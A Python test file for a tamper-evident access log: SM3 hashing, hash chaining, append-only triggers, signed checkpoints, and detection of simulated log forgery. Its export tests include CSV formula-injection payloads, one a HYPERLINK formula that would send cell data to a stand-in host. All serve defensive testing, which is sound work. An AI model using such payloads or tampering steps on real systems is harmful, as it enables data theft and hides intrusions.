"""The access log: SM3, appends on both databases (also concurrent), append-only triggers,
signed checkpoints, and 1,000 random mutations that `verify` (and `earchive audit verify`) all catch."""
from __future__ import annotations

import csv
import datetime as dt
import io
import hashlib
import random
import shutil
import threading
from types import SimpleNamespace
from pathlib import Path

import pikepdf
import pytest
from click.testing import CliRunner
from sqlalchemy import select, text
from sqlalchemy.exc import DBAPIError
from sqlalchemy.orm import Session

from access_control.audit import (
    GENESIS,
    HASHES,
    PAYLOAD_FIELDS,
    AccessLog,
    Actor,
    Event,
    append,
    checkpoint_head,
    entry_hash,
    read_checkpoints,
    signing_key,
    verify,
    write_checkpoint,
)
from access_control.models import AccessLogHead, AccessLogRecord
from earchive import settings as settings_module
from earchive.settings import Settings
from records.db import Database

ALICE = Actor(1, "alice", "officer", 1, "10.0.0.7")
sm3 = HASHES["sm3"]  # OpenSSL's
OLD_SM3_ENTRY_HASH = "85924c9ae6502dfc7e03b7e4f996e23adccb89fd32dac3ed6a6c775b1ca16f28"


@pytest.mark.parametrize("data, digest", [
    (b"abc", "66c7f0f462eeedd9d1f2d46bdc10e4e24167c4875cf2f7a2297da02b8f4ba8e0"),
    (b"abcd" * 16, "debe9ff92275b8a138604889c18e5a4d6fdb70e5387e5765293dcba39c0c5732"),
])
def test_sm3_standard_examples(data: bytes, digest: str) -> None:
    """GB/T 32905-2016, appendix A."""
    assert sm3(data).hexdigest() == digest
    h = sm3()
    for i in range(0, len(data), 7):  # fed in pieces across block boundaries
        h.update(data[i:i + 7])
    assert h.hexdigest() == digest


def test_sm3_padding_boundaries_differ_and_are_stable() -> None:
    digests = {sm3(b"x" * n).hexdigest() for n in (0, 55, 56, 63, 64, 65, 119, 120, 128)}
    assert len(digests) == 9
    assert sm3(b"").hexdigest() == "1ab21d8355cfa17f8e61194831e81a8f22bec8c728fefb747ed035eb5082aa2b"


def test_an_sm3_entry_written_before_the_switch_to_openssl_still_verifies() -> None:
    """The digest below was computed by the pure-Python SM3 the log used until OpenSSL's replaced it."""
    entry = SimpleNamespace(seq=7, at=dt.datetime(2026, 3, 1, 8, 30, tzinfo=dt.timezone.utc), user_id=1,
                            username="alice", role="officer", unit_id=1, action="view", outcome="allowed",
                            slip_no=None, purpose="复核", record_kind="document", record_id=42, case_id=3,
                            content_hash=None, address="10.0.0.7", detail=None, algorithm="sm3", prev_hash=GENESIS)
    assert entry_hash(entry) == OLD_SM3_ENTRY_HASH


def _event(i: int) -> Event:
    return Event(["view", "search", "download", "copy"][i % 4], slip_no=f"A-2026-{i:06d}" if i % 3 == 0 else None,
                 purpose="复议" if i % 5 == 0 else None, record_kind="document", record_id=i, case_id=i % 4,
                 content_hash=hashlib.sha256(str(i).encode()).hexdigest(), detail={"q": f"罚款{i}", "page": i})


def test_appends_chain_and_verify_on_both_databases(database: Database) -> None:
    with database.transaction() as s:
        for i in range(12):
            append(s, ALICE, _event(i), "sm3" if i in (3, 4) else "sha256")
    with database.session() as s:
        rows = s.scalars(select(AccessLogRecord).order_by(AccessLogRecord.seq)).all()
        assert [r.seq for r in rows] == list(range(1, 13))
        assert rows[0].prev_hash == GENESIS
        assert all(b.prev_hash == a.hash for a, b in zip(rows, rows[1:]))
        assert all(entry_hash(r) == r.hash for r in rows)
        assert {r.algorithm for r in rows} == {"sha256", "sm3"}
        assert rows[5].detail == {"q": "罚款5", "page": 5} and rows[5].username == "alice"
        report = verify(s)
        assert report.ok and report.entries == 12, report.problem
        assert s.get(AccessLogHead, 1).seq == 12


def test_the_log_refuses_updates_and_deletes(database: Database) -> None:
    with database.transaction() as s:
        append(s, ALICE, _event(1))
    for statement in ("UPDATE access_log SET username = 'mallory'", "DELETE FROM access_log"):
        with pytest.raises(DBAPIError, match="append-only"), database.transaction() as s:
            s.execute(text(statement))


def test_concurrent_appends_keep_one_gapless_chain(database: Database) -> None:
    errors: list[BaseException] = []

    def writer(n: int) -> None:
        try:
            for i in range(15):
                with database.transaction() as s:
                    append(s, Actor(n, f"user{n}"), _event(i))
        except BaseException as e:  # noqa: BLE001 - reported below
            errors.append(e)

    threads = [threading.Thread(target=writer, args=(n,)) for n in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    with database.session() as s:
        report = verify(s)
        assert report.ok and report.entries == 60, report.problem


def test_checkpoints_are_signed_and_written_once(settings: Settings, tmp_path: Path) -> None:
    db = Database(settings.database_url)
    try:
        log = AccessLog(settings.model_copy(update={"audit_checkpoint_every": 5}))
        with db.transaction() as s:
            for i in range(12):
                log.record(s, ALICE, _event(i))
        log.committed()
        cps = read_checkpoints(settings)
        assert [c.seq for c in cps] == [5, 10]
        assert (settings.audit_key_path.stat().st_mode & 0o777) == 0o600
        with db.session() as s:
            assert checkpoint_head(s, settings).seq == 12
            key = signing_key(settings).public_key()
            assert verify(s, read_checkpoints(settings), key).ok
            again = write_checkpoint(settings, 12, "f" * 64, "sha256")  # never replaces the first
            assert again.hash != "f" * 64
            forged = read_checkpoints(settings)[0]
            forged_path = forged.path
            forged_path.chmod(0o644)
            forged_path.write_text(forged_path.read_text().replace(forged.hash, "0" * 64))
            report = verify(s, read_checkpoints(settings), key)
            assert not report.ok and "签名无效" in report.problem
            assert not verify(s, read_checkpoints(settings), None).ok  # no key, no trust
    finally:
        db.dispose()


# -- tampering ------------------------------------------------------------------------------

N_ENTRIES = 50
CHECKPOINT_AT = 40
_COLUMNS = [c for c in PAYLOAD_FIELDS] + ["prev_hash", "hash"]


def _build_log(settings: Settings) -> None:
    db = Database(settings.database_url)
    try:
        with db.transaction() as s:
            for i in range(N_ENTRIES):
                append(s, Actor(i % 3 + 1, ["alice", "bob", "张三"][i % 3], "officer", 1, "10.0.0.9"), _event(i),
                       "sm3" if i % 17 == 5 else "sha256")
        with db.session() as s:
            row = s.scalar(select(AccessLogRecord).where(AccessLogRecord.seq == CHECKPOINT_AT))
            write_checkpoint(settings, row.seq, row.hash, row.algorithm)
        with db.engine.begin() as conn:  # the attacker owns the database and drops the guards first
            conn.execute(text("DROP TRIGGER access_log_no_update"))
            conn.execute(text("DROP TRIGGER access_log_no_delete"))
    finally:
        db.dispose()


def _changed(value, column: str, rng: random.Random):
    if column == "at":
        return value + dt.timedelta(microseconds=rng.choice([1, -1, 1000, 86_400_000_000]))
    if column == "detail":
        return {**(value or {}), "x": rng.randint(0, 9)}
    if column == "algorithm":
        return "sm3" if value == "sha256" else "sha256"
    if column == "outcome":
        return "denied" if value != "denied" else "allowed"
    if column in ("seq",):
        return value + 10_000
    if isinstance(value, int):
        return value + rng.choice([1, -1, 1000])
    if value is None:
        return rng.choice(["x", "0" * 64, "复议"])
    if column in ("prev_hash", "hash", "content_hash"):
        flipped = "0123456789abcdef".replace(value[5], "")
        return value[:5] + rng.choice(flipped) + value[6:]
    return value + rng.choice(["x", "。", " "])


def _mutate(s: Session, rng: random.Random, kind: str) -> set[int]:
    """Apply one mutation; return the seqs verify may name as the first bad entry."""
    rows = s.scalars(select(AccessLogRecord).order_by(AccessLogRecord.seq)).all()
    n = len(rows)
    if kind == "change":
        row = rng.choice(rows)
        seq, column = row.seq, rng.choice(_COLUMNS)
        setattr(row, column, _changed(getattr(row, column), column, rng))
        s.flush()
        return {seq}
    if kind == "delete":
        row = rng.choice(rows)
        seq = row.seq
        s.delete(row)
        s.flush()
        return {seq}
    if kind == "insert":
        k = rng.randint(1, n + 1)  # the new entry takes number k; later ones move up by one
        for row in reversed(rows[k - 1:]):
            row.seq += 1
            s.flush()
        forged = AccessLogRecord(**{c: getattr(rows[rng.randrange(n)], c) for c in _COLUMNS})
        forged.seq, forged.username = k, "mallory"
        forged.prev_hash = rows[k - 2].hash if k > 1 else GENESIS
        forged.hash = entry_hash(forged)  # the attacker knows the algorithm
        s.add(forged)
        s.flush()
        return {k, k + 1}
    # "rechain": change an entry up to the checkpoint and recompute every hash after it, head included
    k = rng.randint(1, CHECKPOINT_AT)
    rows[k - 1].username = "mallory"
    prev = rows[k - 2].hash if k > 1 else GENESIS
    for row in rows[k - 1:]:
        row.prev_hash = prev
        row.hash = entry_hash(row)
        prev = row.hash
    s.execute(text("UPDATE access_log_head SET hash = :h"), {"h": prev})
    s.flush()
    return {CHECKPOINT_AT}


def _swap(s: Session, rng: random.Random) -> set[int]:
    rows = s.scalars(select(AccessLogRecord).order_by(AccessLogRecord.seq)).all()
    i, j = sorted(rng.sample(range(len(rows)), 2))
    a, b = rows[i], rows[j]
    seq_a, seq_b = a.seq, b.seq
    a.seq = -1
    s.flush()
    b.seq = seq_a
    s.flush()
    a.seq = seq_b
    s.flush()
    return {seq_a}


KINDS = ("change", "delete", "insert", "reorder", "rechain")


def test_a_thousand_random_mutations_are_all_detected(settings: Settings) -> None:
    _build_log(settings)
    checkpoints = read_checkpoints(settings)
    key = signing_key(settings).public_key()
    db = Database(settings.database_url)
    rng = random.Random(20261125)
    counts = dict.fromkeys(KINDS, 0)
    try:
        with db.session() as s:
            assert verify(s, checkpoints, key).ok
        for _ in range(1000):
            kind = rng.choice(KINDS)
            with db.engine.connect() as conn:
                outer = conn.begin()
                with Session(bind=conn, join_transaction_mode="create_savepoint") as s:
                    expected = _swap(s, rng) if kind == "reorder" else _mutate(s, rng, kind)
                    report = verify(s, checkpoints, key)
                outer.rollback()
            assert not report.ok, f"{kind} not detected"
            assert report.first_bad_seq in expected, (kind, expected, report.first_bad_seq, report.problem)
            counts[kind] += 1
        with db.session() as s:
            assert verify(s, checkpoints, key).ok  # every mutation was rolled back
    finally:
        db.dispose()
    assert sum(counts.values()) == 1000 and min(counts.values()) >= 100, counts


def test_earchive_audit_verify_names_the_first_bad_entry(settings: Settings, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    from shell.cli import main

    _build_log(settings)
    db_file = Path(settings.database_url.removeprefix("sqlite:///"))
    runner = CliRunner()

    def run_verify(path: Path):
        monkeypatch.setenv("EARCHIVE_DATA_DIR", str(settings.data_dir))
        monkeypatch.setenv("EARCHIVE_DATABASE_URL", f"sqlite:///{path}")
        settings_module.get_settings.cache_clear()
        return runner.invoke(main, ["audit", "verify"])

    result = run_verify(db_file)
    assert result.exit_code == 0, result.output
    assert f"{N_ENTRIES} entries, 1 signed checkpoints" in result.output
    rng = random.Random(7)
    for i, kind in enumerate(KINDS * 2):
        copy = tmp_path / f"tampered-{i}.db"
        shutil.copy(db_file, copy)
        copy_db = Database(f"sqlite:///{copy}")
        try:
            with copy_db.transaction() as s:
                expected = _swap(s, rng) if kind == "reorder" else _mutate(s, rng, kind)
        finally:
            copy_db.dispose()
        result = run_verify(copy)
        assert result.exit_code != 0, (kind, result.output)
        assert any(f"first bad entry {seq}:" in result.output for seq in expected), (kind, expected, result.output)


# -- exports (findings 4 and 9) ---------------------------------------------------------------------

@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")", "+1+1", "-2+3", "@SUM(A1)",
                                  "\t=1+1", "\r=1+1"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(text: str) -> None:
    from earchive.csv_export import csv_text

    body = csv_text(["事由"], [[text], ["普通事由"], [-5]])
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
    assert rows[1] == ["'" + text] and rows[2] == ["普通事由"] and rows[3] == ["-5"]


def test_the_auditor_csv_neutralises_what_any_user_typed(settings: Settings) -> None:
    """A failed login's username and a slip's purpose reach the auditor's export unchanged but inert."""
    from test_web_flow import make_app
    from context import open_context
    from access_control.users import create_user

    ctx = open_context(settings, migrate=False)
    try:
        with ctx.db.transaction() as s:
            create_user(s, "auditor", "correct-horse-42", "审计", "auditor", None, "internal")
        app = make_app(ctx)
        app.test_client().post("/login", data={"username": "=HYPERLINK(\"http://x.example\")", "password": "x"})
        auditor = app.test_client()
        auditor.post("/login", data={"username": "auditor", "password": "correct-horse-42"})
        body = auditor.get("/audit/export.csv").text
    finally:
        ctx.close()
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
    usernames = [r[2] for r in rows[1:]]
    assert "'=HYPERLINK(\"http://x.example\")" in usernames
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_pdf_export_holds_every_entry_over_as_many_pages_as_it_takes(settings: Settings) -> None:
    from pdfminer.high_level import extract_text

    from webapp.auditlog import LogFilter, _log_pdf

    with Database(settings.database_url).transaction() as s:
        log_ = AccessLog(settings)
        for i in range(1147):
            log_.record(s, Actor(None, f"user{i:04d}", None, None, "127.0.0.1"), _event(i))
        rows = s.scalars(select(AccessLogRecord).order_by(AccessLogRecord.seq)).all()
        s.expunge_all()
    pdf = _log_pdf(rows, LogFilter())
    with pikepdf.open(io.BytesIO(pdf)) as doc:
        pages = len(doc.pages)
    text = extract_text(io.BytesIO(pdf))
    assert pages > 10 and f"第 {pages} / {pages} 页" in text and "共 1147 条" in text
    assert all(f"user{i:04d}" in text for i in (0, 573, 1146))  # first, middle, last row
    assert text.count("序号") == pages  # the headings repeat on every page
